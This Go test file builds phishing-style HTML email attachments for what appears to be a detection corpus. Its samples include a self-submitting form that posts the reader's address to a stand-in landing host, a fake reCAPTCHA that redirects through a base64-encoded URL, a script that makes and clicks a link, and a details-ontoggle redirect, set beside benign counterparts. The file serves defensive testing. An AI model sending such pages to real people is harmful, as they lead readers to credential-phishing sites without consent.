package corpus

import "encoding/base64"

// Attached pages that send the reader on without a link to judge: a form
// the page submits by itself (the reader's address goes in the request's
// body), and a fake CAPTCHA whose click sends the reader on (a page opened
// from the mail cannot run a real CAPTCHA: the kits' gate before their
// sign-in page). TestHTMLPhishPagesInChromium opens both: the form reaches
// its host with nobody touching the page, the CAPTCHA once its box is
// ticked. A link the script makes and clicks, and an ontoggle that a
// <details open> fires as the page opens, reach their host the same way.
func redirectGateCases() []officeCase {
	return []officeCase{
		htmlCase("html-redirect-form-autosubmit", "HTML attachment whose only form, with the reader's address in a hidden field, is posted to a remote page by its body's onload",
			"Remittance_Advice.html", "<!DOCTYPE html>\r\n<html><body onload=\"document.forms[0].submit()\"><p>Loading your remittance advice...</p>\r\n"+
				"<form action=\"https://landing.example.net/kit/next.php\" method=\"post\"><input type=\"hidden\" name=\"e\" value=\"kenji@corp.example.jp\"></form>\r\n</body></html>\r\n", "html-redirect-attachment"),
		htmlCase("html-redirect-fake-captcha", "HTML attachment imitating reCAPTCHA (I'm not a robot) whose tick sends the reader, after a pause, to a remote page",
			"Verify_Document.html", "<!DOCTYPE html>\r\n<html><body>\r\n"+
				`<div style="border:1px solid #d3d3d3;width:300px;padding:12px;font-family:Roboto,Arial"><label><input type="checkbox" id="cb" onclick="verify()"> I'm not a robot</label>`+
				`<div style="font-size:10px;color:#555">reCAPTCHA - Privacy - Terms</div></div>`+"\r\n<script>\r\n"+
				"function verify() {\r\n  setTimeout(function () { window.location.replace(atob(\""+base64.StdEncoding.EncodeToString([]byte("https://landing.example.net/secure/?id=4471"))+"\")); }, 600);\r\n}\r\n</script></body></html>\r\n", "html-redirect-attachment"),
		htmlCase("html-redirect-link-click", "HTML attachment whose script makes a link to a remote page and clicks it, which Chromium follows as the reader's click",
			"Shared_Document.html", "<!DOCTYPE html>\r\n<html><body><p>Opening the shared document...</p>\r\n<script>\r\n"+
				"var t = document.createElement(\"a\");\r\nt.setAttribute(\"href\", \"https://landing.example.net/doc/?e=kenji@corp.example.jp\");\r\n"+
				"document.body.appendChild(t);\r\nt.click();\r\n</script></body></html>\r\n", "html-redirect-attachment"),
		htmlCase("html-redirect-details-toggle", "HTML attachment whose <details open> runs its ontoggle handler as the page opens, sending the reader to a remote page without a script element",
			"Voice_Message.html", "<!DOCTYPE html>\r\n<html><body><p>Loading your voice message...</p>\r\n"+
				"<details open ontoggle=\"window.location.href='https://landing.example.net/vm/?id=4471'\"><summary></summary></details>\r\n</body></html>\r\n", "html-redirect-attachment"),
	}
}

// redirectGateClean: a survey page whose form the reader sends with its
// button (by script), and a page that speaks of a CAPTCHA and opens the
// sender's site in a new tab when clicked; an FAQ page whose handlers and
// made link wait for the reader.
func redirectGateClean() []Sample {
	return []Sample{build(Sample{Name: "html-survey-form", Clean: true, About: "a survey saved as .html whose form a button sends by script (submit) when the reader presses it, and whose help button, beside a note that the live form uses reCAPTCHA, opens the site in a new tab"},
		mail{subject: "Customer survey", root: multipart("mixed", text("Our yearly survey, as a page you can fill in offline.\n"),
			attach("text/html; charset=utf-8", "survey-2026.html", []byte("<!DOCTYPE html>\r\n<html><body><h1>Customer survey 2026</h1>\r\n"+
				"<p>Tell us how we did this year. (The form on our site uses reCAPTCHA; this copy does not need it.)</p>\r\n"+
				"<form id=\"s\" action=\"https://survey.shop.example.com/2026\" method=\"post\"><label>Rating <input name=\"rating\" type=\"number\" min=\"1\" max=\"5\"></label>\r\n"+
				"<label>Comments <textarea name=\"comments\"></textarea></label></form>\r\n"+
				"<button onclick=\"document.getElementById('s').submit()\">Send</button> <button onclick=\"window.open('https://shop.example.com/help', '_blank')\">Help</button>\r\n"+
				"</body></html>\r\n")))}),
		build(Sample{Name: "html-faq-details", Clean: true, About: "an FAQ saved as .html: closed <details> whose ontoggle opens the help page when the reader opens one, and a button whose handler makes and clicks a link to the shop"},
			mail{subject: "Frequently asked questions", root: multipart("mixed", text("Our FAQ, to read offline.\n"),
				attach("text/html; charset=utf-8", "faq.html", []byte("<!DOCTYPE html>\r\n<html><body><h1>Frequently asked questions</h1>\r\n"+
					"<details id=\"q1\" ontoggle=\"if (this.open) location.href='https://help.shop.example.com/faq#q1'\"><summary>When does my order ship?</summary>Within two working days.</details>\r\n"+
					"<input type=\"search\" placeholder=\"Search\" onfocus=\"this.select()\">\r\n"+
					"<button onclick=\"var a = document.createElement('a'); a.href = 'https://shop.example.com/'; a.click()\">Back to the shop</button>\r\n"+
					"</body></html>\r\n")))})}
}
